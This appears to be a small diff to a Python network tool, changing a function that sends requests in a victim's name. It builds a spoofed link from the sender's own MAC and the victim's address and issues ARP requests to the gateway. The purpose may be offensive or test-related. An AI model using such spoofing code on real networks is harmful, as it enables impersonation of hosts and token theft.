@@ -73,8 +73,9 @@ def pipelines(deadline: float) -> None:
 
 def forged(deadline: float, victim: str) -> None:
     """Open conversations in the name of `victim`, and ask for a token in each."""
-    wire = Wire(own()[0], victim)
-    via = wire.resolve(gateway(), deadline)
+    mac, address = own()
+    via = Wire(mac, address).resolve(gateway(), deadline)
+    wire = Wire(mac, victim)
     request, port = f"{_HEAD}\r\n".encode(), 20_000
     while time.monotonic() < deadline:
         wire.request_arp(gateway())
